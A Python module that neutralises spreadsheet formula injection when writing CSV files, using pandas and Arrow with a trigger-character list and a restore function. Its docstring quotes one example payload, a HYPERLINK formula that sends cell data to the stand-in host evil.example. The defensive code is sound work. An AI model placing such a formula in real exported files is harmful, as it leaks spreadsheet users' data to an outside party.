"""Writing CSV files that people open in a spreadsheet, made safe against formula injection.

A lead called ``=HYPERLINK("https://evil.example/?"&A1, "Click")`` is a formula to Excel,
LibreOffice and Google Sheets however the CSV quotes it. Following the OWASP CSV-injection rule,
every text cell (and column name) that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return gets a leading ``'``, which spreadsheets show as text. Numbers such as ``-5`` or ``+1.5e3``
stay as they are. ``raw=True`` (the commands' ``--raw``) writes every value untouched, for
machine pipelines that read the file back.

``restore_cell`` undoes the prefix for values that must round-trip (record ids read back by
``crm push``).
"""

from __future__ import annotations

import re
from pathlib import Path

import pandas as pd
import pyarrow as pa
import pyarrow.compute as pc
from pyarrow import csv as pa_csv

#: what a spreadsheet reads as the start of a formula
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_TRIGGER_RE = r"^[=+\-@\t\r]"
_NUMBER_RE = r"^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$"
_NUMBER = re.compile(_NUMBER_RE)
PREFIX = "'"


def neutralise_cell(value: str) -> str:
    """``value`` with a ``'`` in front when a spreadsheet would run it as a formula."""
    if value and value[0] in TRIGGERS and not _NUMBER.match(value):
        return PREFIX + value
    return value


def restore_cell(value: str) -> str:
    """The value ``neutralise_cell`` was given (a ``'`` before a trigger is dropped)."""
    if len(value) > 1 and value[0] == PREFIX and value[1] in TRIGGERS:
        return value[1:]
    return value


def _neutralise_array(column: pa.ChunkedArray) -> pa.ChunkedArray:
    if not (pa.types.is_string(column.type) or pa.types.is_large_string(column.type)):
        return column
    risky = pc.and_(
        pc.match_substring_regex(column, _TRIGGER_RE),
        pc.invert(pc.match_substring_regex(column, _NUMBER_RE)),
    )
    if not pc.any(risky).as_py():
        return column
    prefixed = pc.binary_join_element_wise(
        pa.scalar(PREFIX, column.type), column, pa.scalar("", column.type)
    )
    return pc.if_else(risky, prefixed, column)


def neutralise_table(table: pa.Table) -> pa.Table:
    """Every text cell and column name of an Arrow table made inert for spreadsheets."""
    columns = [_neutralise_array(table.column(i)) for i in range(table.num_columns)]
    names = [neutralise_cell(str(n)) for n in table.column_names]
    return pa.Table.from_arrays(columns, names=names)


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` with every text cell and column name made inert for spreadsheets."""
    out = frame.copy(deep=False)
    for col in out.columns:
        series = out[col]
        if pd.api.types.is_object_dtype(series) or pd.api.types.is_string_dtype(series):
            out[col] = series.map(lambda v: neutralise_cell(v) if isinstance(v, str) else v)
    out.columns = [neutralise_cell(str(c)) for c in out.columns]
    return out


def write_csv(frame: pd.DataFrame, out: str | Path, *, raw: bool = False) -> None:
    """Write ``frame`` as CSV to ``out`` (neutralised unless ``raw``).

    Arrow's C++ CSV writer does it (about 15 times faster than pandas on a million rows; it
    quotes every text value, which any CSV reader reads back to the same values); pandas when
    Arrow cannot convert a column (mixed Python objects from a Parquet file).
    """
    try:
        table = pa.Table.from_pandas(frame, preserve_index=False)
    except (pa.ArrowException, TypeError, ValueError):
        (frame if raw else neutralise_frame(frame)).to_csv(out, index=False)
        return
    pa_csv.write_csv(table if raw else neutralise_table(table), out)
